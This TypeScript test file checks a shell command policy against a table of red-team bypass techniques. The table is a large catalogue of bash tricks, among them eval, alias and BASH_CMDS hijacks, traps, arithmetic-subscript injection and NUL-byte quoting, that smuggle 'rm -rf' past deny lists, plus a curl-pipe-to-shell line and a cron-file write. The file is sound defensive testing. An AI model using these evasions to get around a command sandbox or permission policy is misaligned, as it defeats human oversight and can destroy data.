// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are bash command lines, ${...} included
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import {
  type CheckOptions,
  checkCommand,
  compilePolicy,
  type PolicyDecision,
} from '../../src/policy/policy.js';

/**
 * Ways to run a command a policy refuses, one row each: the red-team findings against the policy, and the
 * classes they belong to. A new technique is one row.
 *
 * - `input`: one call's command line (state set by an earlier call, such as a variable, is assumed).
 * - `reaches`: the refused command it tries to run.
 * - `deny`: under a deny list (`deny: [rm]`): `refused`, or `limit` where a deny list cannot see it (an
 *   interpreter's own language, a pipe into a shell, a file written then run, a value assembled in an
 *   earlier call). Limits are documented in docs/security.md and docs/command-policy.md.
 * - `allow`: under an allow list, always `refused`: what an allow list cannot analyse, it refuses.
 */
interface Technique {
  input: string;
  reaches: string;
  deny: 'refused' | 'limit';
  allow: 'refused';
}

const R = 'refused' as const;
const L = 'limit' as const;
const rm = 'rm -rf /tmp/x';

const TECHNIQUES: Technique[] = [
  // ---- the plain forms: separators, substitutions, quoting ------------------------------------------
  { input: `ls; ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `ls\n${rm}`, reaches: rm, deny: R, allow: R },
  { input: `echo $(${rm})`, reaches: rm, deny: R, allow: R },
  { input: `echo \`${rm}\``, reaches: rm, deny: R, allow: R },
  { input: `cat <(${rm})`, reaches: rm, deny: R, allow: R },
  { input: `'r'm -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `\\rm -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `/bin/rm -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `x=rm; $x -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `"$(printf rm)" -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  // ---- command tables: names that run something else -------------------------------------------------
  { input: 'BASH_CMDS[ls]=/bin/rm; ls -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'BASH_CMDS=([ls]=/bin/rm); ls -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'declare -A BASH_CMDS=([ls]=/tmp/evil)', reaches: '/tmp/evil as ls', deny: R, allow: R },
  { input: "printf -v 'BASH_CMDS[ls]' %s /bin/rm", reaches: 'rm as ls', deny: R, allow: R },
  { input: "read 'BASH_CMDS[ls]' <<< /bin/rm", reaches: 'rm as ls', deny: R, allow: R },
  { input: "BASH_ALIASES[ls]='rm -rf'", reaches: 'rm as ls', deny: R, allow: R },
  { input: "shopt -s expand_aliases; alias ls='rm -rf'", reaches: 'rm as ls', deny: R, allow: R },
  {
    input: 'shopt -s expand_aliases; alias ls=eval',
    reaches: 'eval as ls, then anything',
    deny: R,
    allow: R,
  },
  { input: "alias ls='echo;'", reaches: 'the words after ls, as a command', deny: R, allow: R },
  { input: 'hash -p /bin/rm ls; ls -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'enable -f /tmp/evil.so ls', reaches: 'a builtin loaded as ls', deny: R, allow: R },
  { input: `ls() { ${rm}; }`, reaches: rm, deny: R, allow: R },
  { input: 'ls() { eval "$*"; }', reaches: 'anything, later, as ls', deny: R, allow: R },
  { input: 'function cat { command "$@"; }', reaches: 'anything, later, as cat', deny: R, allow: R },
  { input: 'ls() { echo hi; }', reaches: 'a function shadowing an allowed ls', deny: L, allow: R },
  {
    input: 'command_not_found_handle() { eval "$1"; }',
    reaches: 'any unknown name, later',
    deny: R,
    allow: R,
  },
  { input: 'command_not_found_handle() { echo; }', reaches: 'every unknown name, later', deny: R, allow: R },
  {
    input: "env 'BASH_FUNC_ls%%=() { rm -rf /tmp/x; }' bash -c ls",
    reaches: rm,
    deny: R,
    allow: R,
  },
  { input: 'history -s rm -rf /tmp/x; fc -s', reaches: rm, deny: R, allow: R },
  { input: 'fc -e : -1', reaches: 'the last history command', deny: R, allow: R },
  { input: `bind -x '"\\C-a": ${rm}'`, reaches: rm, deny: R, allow: R },
  // ---- values bash evaluates again: subscripts, arithmetic, prompts ----------------------------------
  { input: `x='$(${rm})'; echo \${x@P}`, reaches: rm, deny: R, allow: R },
  { input: 'echo "${x@P}"', reaches: 'the $(...) in x, set earlier', deny: R, allow: R },
  { input: `test -v 'a[$(${rm})]'`, reaches: rm, deny: R, allow: R },
  { input: `[ -v 'a[$(${rm})]' ]`, reaches: rm, deny: R, allow: R },
  { input: `[[ -v 'a[$(${rm})]' ]]`, reaches: rm, deny: R, allow: R },
  { input: `[[ 'a[$(${rm})]' -eq 1 ]]`, reaches: rm, deny: R, allow: R },
  { input: `unset 'a[$(${rm})]'`, reaches: rm, deny: R, allow: R },
  { input: `let 'a[$(${rm})]'`, reaches: rm, deny: R, allow: R },
  { input: `(( 'a[$(${rm})]' ))`, reaches: rm, deny: R, allow: R },
  { input: `declare 'a[$(${rm})]=1'`, reaches: rm, deny: R, allow: R },
  { input: `f() { local 'a[$(${rm})]=1'; }; f`, reaches: rm, deny: R, allow: R },
  { input: `compgen -W '$(${rm})' w`, reaches: rm, deny: R, allow: R },
  { input: `compgen -C '${rm}' w`, reaches: rm, deny: R, allow: R },
  { input: `printf -v 'a[$(${rm})]' %s 1`, reaches: rm, deny: R, allow: R },
  { input: `read -r 'a[$(${rm})]' <<< 1`, reaches: rm, deny: R, allow: R },
  { input: `mapfile -C '${rm}' -c 1 a <<< x`, reaches: rm, deny: R, allow: R },
  { input: `x='a[$(${rm})]'; echo $((x))`, reaches: rm, deny: R, allow: R },
  { input: `declare -n r='a[$(${rm})]'; echo $r`, reaches: rm, deny: R, allow: R },
  { input: `declare -i n; n='a[$(${rm})]'`, reaches: rm, deny: R, allow: R },
  { input: `x=$'a[\\x24(${rm})]'; echo $((x))`, reaches: rm, deny: R, allow: R },
  { input: `echo \${y:-'a[$(${rm})]'}`, reaches: rm, deny: R, allow: R },
  { input: 'echo $((x))', reaches: 'a[$(cmd)] in x, set earlier', deny: L, allow: R },
  { input: 'echo $(($x + 1))', reaches: 'a[$(cmd)] in x, set earlier', deny: L, allow: R },
  { input: 'echo ${a[i]}', reaches: 'a[$(cmd)] in i, set earlier', deny: L, allow: R },
  { input: 'echo ${s:i:2}', reaches: 'a[$(cmd)] in i, set earlier', deny: L, allow: R },
  { input: 'a[i]=1', reaches: 'a[$(cmd)] in i, set earlier', deny: L, allow: R },
  { input: 'echo ${!x}', reaches: 'a[$(cmd)] in x, set earlier', deny: L, allow: R },
  { input: '[[ $x -eq 1 ]]', reaches: 'a[$(cmd)] in x, set earlier', deny: L, allow: R },
  { input: 'test -v "$x"', reaches: 'a[$(cmd)] in x, set earlier', deny: L, allow: R },
  { input: 'for ((i = n; i < 3; i++)); do echo; done', reaches: 'a[$(cmd)] in n', deny: L, allow: R },
  // ---- variables bash runs, expands or uses to find commands ----------------------------------------
  { input: `PROMPT_COMMAND='${rm}' bash -i`, reaches: rm, deny: R, allow: R },
  { input: `PS4='$(${rm})' bash -xc :`, reaches: rm, deny: R, allow: R },
  { input: 'PS4="$cmd" bash -xc :', reaches: 'the $(...) in cmd', deny: R, allow: R },
  { input: 'export PROMPT_COMMAND="$x"', reaches: 'the command in x', deny: R, allow: R },
  { input: `printf -v PROMPT_COMMAND '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'SHELL=/bin/rm sudo -s', reaches: 'rm as the shell', deny: R, allow: R },
  { input: 'echo ${BASH_CMDS[ls]:=/bin/rm}; ls -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'echo ${PROMPT_COMMAND:=x}', reaches: 'x, before each prompt', deny: R, allow: R },
  { input: 'for PATH in /tmp/evil; do ls; done', reaches: '/tmp/evil/ls', deny: L, allow: R },
  { input: 'echo ${PATH=/tmp/evil}', reaches: '/tmp/evil/ls, when PATH is unset', deny: L, allow: R },
  { input: 'BASH_ENV=/tmp/x.sh bash -c :', reaches: 'the commands in /tmp/x.sh', deny: L, allow: R },
  { input: 'PATH=/tmp/evil:$PATH ls', reaches: '/tmp/evil/ls', deny: L, allow: R },
  { input: 'LD_PRELOAD=/tmp/evil.so ls', reaches: 'code in /tmp/evil.so', deny: L, allow: R },
  { input: 'IFS=/; echo x', reaches: 'words split differently later', deny: L, allow: R },
  {
    input: "LESSOPEN='|rm -rf /tmp/x %s' cat f",
    reaches: 'rm, through a program reading it',
    deny: L,
    allow: R,
  },
  { input: "PAGER='rm -rf /tmp/x'", reaches: 'rm, run as a pager later', deny: L, allow: R },
  // ---- commands run later: traps ---------------------------------------------------------------------
  { input: `trap -- '-x;${rm}' EXIT`, reaches: rm, deny: R, allow: R },
  { input: `trap '${rm}' DEBUG`, reaches: rm, deny: R, allow: R },
  { input: `trap '${rm}' EXIT INT`, reaches: rm, deny: R, allow: R },
  { input: 'trap "$cmd" EXIT', reaches: 'the command in cmd', deny: R, allow: R },
  // ---- a shell fed from a descriptor, a here-string or a file ---------------------------------------
  { input: `exec 3<<<'${rm}'; bash <&3`, reaches: rm, deny: R, allow: R },
  { input: 'bash <&3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: 'bash 0<&3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: 'sh < /dev/fd/3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: 'bash /dev/fd/3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: 'source /dev/fd/3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: '. /proc/self/fd/3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: `bash <(echo '${rm}')`, reaches: rm, deny: R, allow: R },
  { input: `source <(echo '${rm}')`, reaches: rm, deny: R, allow: R },
  { input: 'source "$f"', reaches: 'a file named at run time', deny: R, allow: R },
  { input: `exec <<<'${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'exec < /dev/fd/3', reaches: 'what descriptor 3 holds', deny: R, allow: R },
  { input: `bash <<< '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `bash <<'EOF'\n${rm}\nEOF`, reaches: rm, deny: R, allow: R },
  { input: `source /dev/stdin <<< '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `cmd 3<<<'${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'source /tmp/x.sh', reaches: 'the commands in /tmp/x.sh', deny: L, allow: R },
  { input: 'bash < /tmp/x.sh', reaches: 'the commands in /tmp/x.sh', deny: L, allow: R },
  // ---- a NUL byte, $'...' and other quoting --------------------------------------------------------
  { input: `$'rm\\x00ignored' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$'rm\\0' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$'rm\\c@x' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$'rm\\u0000' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$'\\x72\\x6d' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$'\\162\\155' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `$"rm" -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: `r$'m' -rf /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: 'rm\x00 -rf /tmp/x', reaches: rm, deny: R, allow: R },
  // ---- eval and shells of strings -------------------------------------------------------------------
  { input: `eval '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `eval -- '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'eval "$cmd"', reaches: 'the command in cmd', deny: R, allow: R },
  { input: 'eval echo "$x"', reaches: 'a ; in x, then anything', deny: R, allow: R },
  { input: `bash -c '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'bash -c "$cmd"', reaches: 'the command in cmd', deny: R, allow: R },
  { input: 'sh -c "rm$x -rf /tmp/x"', reaches: rm, deny: R, allow: R },
  { input: `sh -lc '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `su -c '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'su -s /bin/rm root -- -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: `runuser -u root -- ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `sudo -s -- '${rm}'`, reaches: rm, deny: R, allow: R },
  // ---- braces and globs -----------------------------------------------------------------------------
  { input: '{rm,-rf,/tmp/x}', reaches: rm, deny: R, allow: R },
  { input: 'timeout {5,rm} -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'timeout $t rm -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'sudo $opts rm -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'timeout "$@" -rf /tmp/x', reaches: 'rm, from the positional parameters', deny: R, allow: R },
  { input: 'nice "${args[@]}" /tmp/x', reaches: 'rm, from an array', deny: R, allow: R },
  { input: '/bin/r? -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: '/???/r[m] -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'sudo /bin/r* -rf /tmp/x', reaches: rm, deny: R, allow: R },
  // ---- env -S, xargs, find, parallel ---------------------------------------------------------------
  { input: `env -S '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `env -S'sudo\\_rm -rf /tmp/x'`, reaches: rm, deny: R, allow: R },
  { input: `env 'X-Y=1' ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `env "$n=1" ${rm}`, reaches: rm, deny: R, allow: R },
  { input: 'echo /tmp/x | xargs rm -rf', reaches: rm, deny: R, allow: R },
  { input: `echo ${rm} | xargs sudo`, reaches: rm, deny: R, allow: R },
  { input: `echo ${rm} | xargs timeout 5`, reaches: rm, deny: R, allow: R },
  { input: `echo ${rm} | xargs sh -c`, reaches: rm, deny: R, allow: R },
  { input: 'echo rm | xargs -I{} sh -c "{} -rf /tmp/x"', reaches: rm, deny: R, allow: R },
  { input: `echo '-exec rm -rf {} ;' | xargs find /tmp/x`, reaches: rm, deny: R, allow: R },
  { input: 'find /tmp/x -exec rm -rf {} +', reaches: rm, deny: R, allow: R },
  { input: 'find /tmp {-exec,rm,-rf,/tmp/x,\\;}', reaches: rm, deny: R, allow: R },
  { input: 'find /tmp -name x -exec {} \\;', reaches: 'a file name, as a command', deny: R, allow: R },
  {
    input: `find /tmp -exec sh -c 'echo {}' \\;`,
    reaches: 'a file name, as a command line',
    deny: R,
    allow: R,
  },
  { input: `parallel ::: '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: 'parallel rm -rf ::: /tmp/x', reaches: rm, deny: R, allow: R },
  { input: `parallel sh -c ::: '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `echo '${rm}' | parallel`, reaches: rm, deny: R, allow: R },
  // ---- wrappers -------------------------------------------------------------------------------------
  { input: `nohup ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `timeout -k 1 5 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `timeout --signal=KILL 5 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `sudo -u root -- ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `sudo -i ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `doas ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `setsid -f ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `stdbuf -oL ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `nice -n 5 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `nice -5 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `ionice -c3 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `chroot / ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `flock /tmp/l ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `flock /tmp/l -c '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `watch -n 1 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `watch "$cmd"`, reaches: 'the command in cmd', deny: R, allow: R },
  { input: `env -i A=1 ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `exec -a ls ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `command ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `builtin eval '${rm}'`, reaches: rm, deny: R, allow: R },
  { input: `time ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `coproc ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `ssh host ${rm}`, reaches: `${rm} (on host)`, deny: R, allow: R },
  { input: `ssh host -- ${rm}`, reaches: `${rm} (on host)`, deny: R, allow: R },
  { input: `ssh -p 22 host -l root ${rm}`, reaches: `${rm} (on host)`, deny: R, allow: R },
  { input: 'ssh host "$cmd"', reaches: 'the command in cmd (on host)', deny: R, allow: R },
  { input: `ssh -o 'ProxyCommand ${rm}' host`, reaches: rm, deny: R, allow: R },
  { input: `scp -o 'ProxyCommand=${rm}' a host:b`, reaches: rm, deny: R, allow: R },
  { input: 'scp -S /bin/rm -rf host:/tmp/x .', reaches: rm, deny: R, allow: R },
  { input: `rsync -e '${rm}' a host:b`, reaches: rm, deny: R, allow: R },
  { input: `busybox ${rm}`, reaches: rm, deny: R, allow: R },
  { input: `toybox ${rm}`, reaches: rm, deny: R, allow: R },
  { input: 'coreutils --coreutils-prog=rm -rf /tmp/x', reaches: rm, deny: R, allow: R },
  { input: 'busybox sh -c "$cmd"', reaches: 'the command in cmd', deny: R, allow: R },
  // ---- what a deny list cannot see: interpreters, pipes into a shell, files written then run --------
  { input: `perl -e 'system("${rm}")'`, reaches: rm, deny: L, allow: R },
  { input: `python3 -c 'import os; os.system("${rm}")'`, reaches: rm, deny: L, allow: R },
  { input: `sed -n '1e ${rm}' /etc/hostname`, reaches: rm, deny: L, allow: R },
  { input: `sed 'e ${rm}' /etc/hostname`, reaches: rm, deny: L, allow: R },
  { input: `awk 'BEGIN{system("${rm}")}'`, reaches: rm, deny: L, allow: R },
  { input: `echo '${rm}' | bash`, reaches: rm, deny: L, allow: R },
  { input: 'curl -s https://example.com/x | sh', reaches: 'whatever it downloads', deny: L, allow: R },
  { input: `echo '${rm}' > /tmp/s; bash /tmp/s`, reaches: rm, deny: L, allow: R },
  { input: `echo '* * * * * root ${rm}' > /etc/cron.d/x`, reaches: rm, deny: L, allow: R },
  { input: `printf '${rm}' | tee /tmp/s`, reaches: 'a script for later', deny: L, allow: R },
  { input: 'vim -c "!rm -rf /tmp/x"', reaches: rm, deny: L, allow: R },
];

const DENY = compilePolicy({ allow: [], deny: [{ pattern: 'rm', origin: 'defaults' }], presets: [] });
/** A small allow list. */
const ALLOW_SMALL = allowList(['ls', 'echo', 'cat']);
/**
 * A broad allow list: the builtins and wrappers the techniques ride on are allowed, so each row is refused
 * for what it does, not only because its first word is unknown. No shell, interpreter or `rm`.
 */
const ALLOW_BROAD = allowList([
  'ls',
  'echo',
  'cat',
  'printf',
  'test',
  '[',
  'read',
  'let',
  'declare',
  'local',
  'export',
  'unset',
  'compgen',
  'mapfile',
  'trap',
  'alias',
  'shopt',
  'hash',
  'enable',
  'history',
  'fc',
  'bind',
  'exec',
  'env',
  'xargs',
  'find',
  'parallel',
  'timeout',
  'nohup',
  'sudo',
  'doas',
  'su',
  'runuser',
  'setsid',
  'stdbuf',
  'nice',
  'ionice',
  'chroot',
  'flock',
  'watch',
  'command',
  'builtin',
  'ssh',
  'busybox',
  'toybox',
  'coreutils',
  'curl',
  'cmd',
  'f',
]);

function allowList(patterns: string[]) {
  return compilePolicy({
    allow: patterns.map((pattern) => ({ pattern, origin: 'host h' })),
    deny: [],
    presets: [],
  });
}

const shell: CheckOptions = { abbreviations: false };

function outcome(decision: PolicyDecision): 'refused' | 'allowed' {
  return decision.allowed ? 'allowed' : 'refused';
}

describe('policy bypass techniques', () => {
  it(`has one row per technique (${TECHNIQUES.length})`, () => {
    const inputs = TECHNIQUES.map((t) => t.input);
    assert.deepEqual(
      inputs.filter((input, i) => inputs.indexOf(input) !== i),
      [],
      'each input once',
    );
  });

  it('a deny list refuses every technique that reaches the denied command, and sees none of its limits', () => {
    const wrong = TECHNIQUES.filter((t) => {
      const decision = checkCommand(DENY, t.input, shell);
      // A limit is a technique the deny list lets through: a row whose limit is lifted must say so.
      return outcome(decision) !== (t.deny === 'limit' ? 'allowed' : 'refused');
    }).map((t) => `${JSON.stringify(t.input)} (reaches ${t.reaches}): expected ${t.deny}`);
    assert.deepEqual(wrong, []);
  });

  for (const [name, policy] of [
    ['small', ALLOW_SMALL],
    ['broad', ALLOW_BROAD],
  ] as const) {
    it(`an allow list (${name}) refuses every technique`, () => {
      const wrong = TECHNIQUES.filter((t) => checkCommand(policy, t.input, shell).allowed).map(
        (t) => `${JSON.stringify(t.input)} (reaches ${t.reaches}) was allowed`,
      );
      assert.deepEqual(wrong, []);
    });
  }

  it('says why, naming what it cannot follow', () => {
    const reason = (input: string, policy = DENY) => {
      const decision = checkCommand(policy, input, shell);
      assert.equal(decision.allowed, false, input);
      return (decision as Extract<PolicyDecision, { allowed: false }>).reason;
    };
    assert.match(reason('BASH_CMDS[ls]=/bin/rm'), /sets BASH_CMDS, which changes what a command name runs/);
    assert.match(reason('echo ${x@P}'), /expands a variable's value as a prompt \(@P\)/);
    assert.match(reason('eval "$cmd"'), /only complete when it runs/);
    assert.match(reason('bash <&3'), /read from a file descriptor/);
    assert.match(reason('timeout $t ls'), /quote it \("\$x"\)/);
    assert.match(reason('echo $((x))', ALLOW_SMALL), /evaluates a variable's value as arithmetic/);
    assert.match(
      reason('ls > /etc/motd', ALLOW_SMALL),
      /writes its output to \/etc\/motd, and no allow rule/,
    );
    assert.match(reason('PATH=/tmp ls', ALLOW_SMALL), /sets PATH, which decides what a command runs/);
    assert.match(
      reason('ls() { echo; }', ALLOW_SMALL),
      /defines a function named ls, which an allow rule allows/,
    );
  });
});

describe('allow lists and what they cannot analyse', () => {
  it('permits writing a file only where the allow rule says so', () => {
    const p = allowList(['ls', 'sort > /tmp/*', 'echo >']);
    const allowed = (input: string) => checkCommand(p, input, shell).allowed;
    assert.deepEqual(
      ['ls > /tmp/a', 'sort x > /tmp/a', 'sort x >> /tmp/a/b', 'sort > /etc/x', 'sort > /tmp/../etc/x'].map(
        allowed,
      ),
      [false, true, true, false, false],
    );
    assert.deepEqual(['echo x > /etc/motd', 'echo x > "$f"', 'ls 2>/dev/null', 'ls >&2'].map(allowed), [
      true,
      true,
      true,
      true,
    ]);
    assert.equal(allowed('sort > "$f"'), false);
  });

  it('lets through what it can analyse: numbers, quoted strings, lower-case shell variables', () => {
    const p = allowList(['ls', 'echo', 'test', '[']);
    const allowed = (input: string) => checkCommand(p, input, shell).allowed;
    for (const input of [
      'echo $((1 + 2 * 0x10))',
      'echo "$HOME" ${x:-default} ${#x} ${!prefix*}',
      'test -n "$x" && echo yes',
      '[ "$x" = y ]',
      'LANG=C ls -l',
      'dir=/tmp; ls "$dir"',
      "echo 'a[$(ls)]'",
    ]) {
      assert.equal(allowed(input), true, input);
    }
  });
});

describe('bounds on hostile input', () => {
  // 5x what the input takes on a quiet machine (see policy-split.test.ts): a quadratic parse takes minutes.
  const fast = (input: string, quietMs: number) => {
    const start = performance.now();
    const decision = checkCommand(ALLOW_BROAD, input, shell);
    const elapsed = performance.now() - start;
    assert.ok(
      elapsed < quietMs * 5,
      `${JSON.stringify(input.slice(0, 12))}... took ${elapsed.toFixed(1)} ms`,
    );
    return decision;
  };

  it('stays linear on the new paths', () => {
    // Linear work on these takes tens to hundreds of milliseconds; quadratic work would take minutes.
    for (const input of [
      `echo '${'a['.repeat(300_000)}'`,
      `echo '${'a[$('.repeat(100_000)}'`,
      `echo $((${'x+'.repeat(300_000)}1))`,
      `echo \${${'a'.repeat(500_000)}[i]}`,
      `[[ ${'$x -eq 1 && '.repeat(50_000)}1 -eq 1 ]]`,
      `${'x=1 '.repeat(100_000)}ls`,
      `declare ${'a[i]=1 '.repeat(100_000)}`,
      `parallel ${'x '.repeat(100_000)}::: a`,
      `find . ${'-name x '.repeat(100_000)}`,
      `${'xargs '.repeat(200_000)}ls`,
      `for PATH in ${'x '.repeat(300_000)}; do ls; done`,
      `echo ${'${PATH:=x}'.repeat(50_000)}`,
    ]) {
      fast(input, 1000);
    }
  });

  it('bounds code found in strings, as it bounds bash -c in bash -c', () => {
    let line = 'ls';
    for (let i = 0; i < 12; i++) line = `test -v 'a[$(${line.replaceAll("'", `'"'"'`)})]'`;
    const decision = fast(line, 100);
    assert.equal(decision.allowed, false);
  });
});
